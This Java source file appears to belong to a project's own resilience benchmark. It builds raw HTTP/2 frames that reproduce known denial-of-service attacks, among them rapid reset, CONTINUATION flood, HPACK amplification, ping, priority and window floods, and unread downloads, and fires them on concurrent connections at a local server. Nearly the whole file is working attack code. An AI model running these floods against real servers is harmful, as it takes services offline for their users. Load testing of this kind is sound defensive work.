package io.arbitration.command.bench;

import io.arbitration.command.bench.Attack.Node;
import io.vertx.core.json.JsonObject;
import java.io.ByteArrayOutputStream;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.function.IntFunction;

/** Frames of HTTP/2 (RFC 9113) that cost much to take and little to send. */
final class FrameAttacks {

    private static final int AT_ONCE = 16;
    private static final int DOWNLOADS = 100;
    private static final int READ_BYTES = 65_536;
    private static final byte[] NOTHING = {};
    private static final int DATA = 0;
    private static final int HEADERS = 1;
    private static final int PRIORITY = 2;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int WINDOW_UPDATE = 8;
    private static final int CONTINUATION = 9;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;
    private static final int CANCEL = 8;
    private static final int INITIAL_WINDOW_SIZE = 4;
    /** Indexed fields of the static table, GET, http and /; and :authority as a literal. */
    private static final byte[] GET = {(byte) 0x82, (byte) 0x86, (byte) 0x84, 0x01, 0x09, 'l', 'o', 'c', 'a', 'l', 'h', 'o', 's', 't'};
    /** The same for a long file, /docs/swagger-ui-bundle.js. */
    private static final byte[] GET_LONG = getLong();
    /** The same for POST /index.html. */
    private static final byte[] POST = {(byte) 0x83, (byte) 0x86, (byte) 0x85, 0x01, 0x09, 'l', 'o', 'c', 'a', 'l', 'h', 'o', 's', 't'};

    private FrameAttacks() {}

    static List<Attack> all() {
        return List.of(
                new Attack("streams reset", "HTTP/2 streams are opened and reset at once (CVE-2023-44487)", stage -> play(stage, resets(), NOTHING)),
                new Attack("streams reset over TLS", "the same over TLS", stage -> play(stage, resets(), NOTHING)).on(Node.TLS),
                new Attack("streams made to reset", "HTTP/2 requests are followed by a frame for which the server resets their streams (CVE-2025-8671)",
                        stage -> play(stage, madeToReset(), NOTHING)).on(Node.TLS),
                new Attack("continuations", "HTTP/2 heads go on without an end (CVE-2024-27316)",
                        stage -> play(stage, frame(HEADERS, END_STREAM, 1, GET), often(frame(CONTINUATION, 0, 1, NOTHING)))).on(Node.TLS),
                new Attack("header tables", "HTTP/2 heads of a few KB name a long header thousands of times (CVE-2016-6581)",
                        stage -> play(stage, NOTHING, NOTHING, FrameAttacks::largeHeads)).on(Node.TLS),
                new Attack("pings", "HTTP/2 pings and settings ask for nothing but an acknowledgement (CVE-2019-9512, -9515)",
                        stage -> play(stage, frame(HEADERS, END_HEADERS | END_STREAM, 1, GET), often(frame(PING, 0, 0, new byte[8]), frame(SETTINGS, 0, 0, NOTHING)))).on(Node.TLS),
                new Attack("settings of windows", "HTTP/2 settings change the windows of as many streams as there may be, over and over",
                        stage -> play(stage, closedWindows(), often(window(1), window(0)))).on(Node.TLS),
                new Attack("priorities", "HTTP/2 streams get another priority over and over (CVE-2019-9513)", stage -> play(stage, closedWindows(), priorities())).on(Node.TLS),
                new Attack("closed windows", "HTTP/2 streams are opened, and nothing may be sent on them (CVE-2019-9517)", stage -> play(stage, closedWindows(), NOTHING)).on(Node.TLS),
                new Attack("HTTP/2 downloads unread", "one user asks for a large file of its own on a hundred HTTP/2 streams of each connection, and nothing may be sent on them",
                        FrameAttacks::downloadUnread).prepared(stage -> WorkAttacks.upload(stage, "x".repeat(8 * WorkAttacks.PART_BYTES))).beside(Alike.DOWNLOAD),
                new Attack("HTTP/2 downloads dripped", "the same where each stream may be sent a byte every while", FrameAttacks::downloadDripping)
                        .prepared(stage -> WorkAttacks.upload(stage, "x".repeat(8 * WorkAttacks.PART_BYTES))).beside(Alike.DOWNLOAD),
                new Attack("window updates", "HTTP/2 windows are opened by one byte each time (CVE-2019-9511)",
                        stage -> play(stage, together(window(1), frame(HEADERS, END_HEADERS | END_STREAM, 1, GET_LONG)), often(frame(WINDOW_UPDATE, 0, 1, number(1))))).on(Node.TLS),
                new Attack("empty data", "HTTP/2 bodies of frames without a byte (CVE-2019-9518)",
                        stage -> play(stage, frame(HEADERS, END_HEADERS, 1, POST), often(frame(DATA, 0, 1, NOTHING)))).on(Node.TLS));
    }

    private static void play(AttackStage stage, byte[] once, byte[] overAndOver) throws InterruptedException {
        play(stage, once, overAndOver, stream -> NOTHING);
    }

    /**
     * Sends frames on sixteen connections, the second ones over and over, and reads what comes; opens another one when the server closes it.
     *
     * @param onStream further frames, each time for another stream
     */
    private static void play(AttackStage stage, byte[] once, byte[] overAndOver, IntFunction<byte[]> onStream) throws InterruptedException {
        byte[] first = beginning(once);
        stage.together(AT_ONCE, () -> {
            try (Socket socket = stage.connectForHttp2()) {
                socket.getOutputStream().write(first);
                byte[] answer = new byte[READ_BYTES];
                boolean open = true;
                for (int stream = 1; open && !stage.isOver(); stream += 2) {
                    socket.getOutputStream().write(together(overAndOver, onStream.apply(stream)));
                    boolean mustRead = overAndOver.length == 0 || socket.getInputStream().available() > 0;
                    open = !mustRead || socket.getInputStream().read(answer) >= 0;
                    stage.pause(Duration.ofMillis(1));
                    stage.rest();
                }
            }
        });
    }

    private static byte[] beginning(byte[] frames) {
        return together("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII), frame(SETTINGS, 0, 0, NOTHING), frames);
    }

    private static void downloadUnread(AttackStage stage) throws Exception {
        play(stage, downloads(stage), NOTHING);
    }

    private static void downloadDripping(AttackStage stage) throws Exception {
        ByteArrayOutputStream grants = new ByteArrayOutputStream();
        for (int stream = 1; stream < 2 * DOWNLOADS; stream += 2) {
            grants.writeBytes(frame(WINDOW_UPDATE, 0, stream, number(1)));
        }
        byte[] first = beginning(downloads(stage));
        stage.together(AT_ONCE, () -> {
            try (Socket socket = stage.connectForHttp2()) {
                socket.getOutputStream().write(first);
                byte[] answer = new byte[READ_BYTES];
                while (!stage.isOver()) {
                    stage.pause(Duration.ofMillis(500));
                    socket.getOutputStream().write(grants.toByteArray());
                    if (socket.getInputStream().read(answer) < 0) {
                        return;
                    }
                }
            }
        });
    }

    /** Requests for a file, on streams that may be sent nothing. */
    private static byte[] downloads(AttackStage stage) throws Exception {
        JsonObject request = Attacks.inOwnCase(stage);
        String uploadId = stage.asked("/api/evidence/uploads/list", request).getJsonArray("uploads").getJsonObject(0).getString("uploadID");
        return requests(stage, "/api/evidence/uploads/download", request.put("uploadID", uploadId));
    }

    /** Asks over and over on streams that may be sent nothing. */
    static void askUnread(AttackStage stage, String path, JsonObject request) throws InterruptedException {
        play(stage, requests(stage, path, request), NOTHING);
    }

    private static byte[] requests(AttackStage stage, String path, JsonObject request) {
        byte[] body = request.encode().getBytes(StandardCharsets.US_ASCII);
        ByteArrayOutputStream head = new ByteArrayOutputStream();
        // POST, http and localhost; the path and the fields as literals that are not indexed (RFC 7541, section 6.2.2).
        head.writeBytes(new byte[] {(byte) 0x83, (byte) 0x86, 0x01, 0x09, 'l', 'o', 'c', 'a', 'l', 'h', 'o', 's', 't'});
        literal(head, ":path", path);
        literal(head, "content-type", "application/json");
        literal(head, "content-length", String.valueOf(body.length));
        literal(head, "authorization", "Bearer " + stage.attacker().token());
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        bytes.writeBytes(window(0));
        for (int stream = 1; stream < 2 * DOWNLOADS; stream += 2) {
            bytes.writeBytes(frame(HEADERS, END_HEADERS, stream, head.toByteArray()));
            bytes.writeBytes(frame(DATA, END_STREAM, stream, body));
        }
        return bytes.toByteArray();
    }

    private static void literal(ByteArrayOutputStream head, String name, String value) {
        head.write(0);
        text(head, name);
        text(head, value);
    }

    private static byte[] getLong() {
        ByteArrayOutputStream head = new ByteArrayOutputStream();
        head.writeBytes(new byte[] {(byte) 0x82, (byte) 0x86, 0x01, 0x09, 'l', 'o', 'c', 'a', 'l', 'h', 'o', 's', 't'});
        literal(head, ":path", "/docs/swagger-ui-bundle.js");
        return head.toByteArray();
    }

    /** A length of seven bits, and more behind them where it is longer (RFC 7541, section 5.1). */
    private static void text(ByteArrayOutputStream head, String text) {
        int rest = text.length() - 127;
        head.write(Math.min(text.length(), 127));
        if (rest >= 0) {
            for (; rest >= 128; rest /= 128) {
                head.write(rest % 128 + 128);
            }
            head.write(rest);
        }
        head.writeBytes(text.getBytes(StandardCharsets.US_ASCII));
    }

    private static byte[] resets() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        for (int stream = 1; stream < 2000; stream += 2) {
            bytes.writeBytes(frame(HEADERS, END_HEADERS | END_STREAM, stream, GET));
            bytes.writeBytes(frame(RST_STREAM, 0, stream, number(CANCEL)));
        }
        return bytes.toByteArray();
    }

    /** A window that grows by nothing is an error of its stream (RFC 9113, section 6.9). */
    private static byte[] madeToReset() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        for (int stream = 1; stream < 2000; stream += 2) {
            bytes.writeBytes(frame(HEADERS, END_HEADERS | END_STREAM, stream, GET));
            bytes.writeBytes(frame(WINDOW_UPDATE, 0, stream, number(0)));
        }
        return bytes.toByteArray();
    }

    /** A header of 4 KB for the table of the connection, and 10,000 times its index (RFC 7541, sections 6.2.1 and 6.1): 14 KB become 40 MB. */
    private static byte[] largeHeads(int stream) {
        ByteArrayOutputStream head = new ByteArrayOutputStream();
        head.writeBytes(GET);
        head.write(0x40);
        text(head, "x");
        text(head, "y".repeat(4000));
        for (int i = 0; i < 10_000; i++) {
            head.write(0xbe);
        }
        return frame(HEADERS, END_HEADERS | END_STREAM, stream, head.toByteArray());
    }

    /** Each stream in turn depends on another one alone (RFC 7540, section 5.3). */
    private static byte[] priorities() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        for (int i = 0; i < 1000; i++) {
            int stream = 1 + 2 * (i % 127);
            int other = 1 + 2 * ((i + 1 + i / 127) % 127);
            bytes.writeBytes(frame(PRIORITY, 0, stream, ByteBuffer.allocate(5).putInt(0x80000000 | (other == stream ? 0 : other)).put((byte) 15).array()));
        }
        return bytes.toByteArray();
    }

    private static byte[] closedWindows() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        bytes.writeBytes(window(0));
        for (int stream = 1; stream < 255; stream += 2) {
            bytes.writeBytes(frame(HEADERS, END_HEADERS | END_STREAM, stream, GET));
        }
        return bytes.toByteArray();
    }

    /** Bytes that the server may send on each stream until it is granted more. */
    private static byte[] window(int bytes) {
        return frame(SETTINGS, 0, 0, ByteBuffer.allocate(6).putShort((short) INITIAL_WINDOW_SIZE).putInt(bytes).array());
    }

    private static byte[] number(int number) {
        return ByteBuffer.allocate(4).putInt(number).array();
    }

    private static byte[] often(byte[]... frames) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        for (int i = 0; i < 1000; i++) {
            bytes.writeBytes(together(frames));
        }
        return bytes.toByteArray();
    }

    private static byte[] together(byte[]... frames) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        for (byte[] frame : frames) {
            bytes.writeBytes(frame);
        }
        return bytes.toByteArray();
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        return ByteBuffer.allocate(9 + payload.length).put((byte) 0).putShort((short) payload.length).put((byte) type).put((byte) flags).putInt(stream)
                .put(payload).array();
    }
}
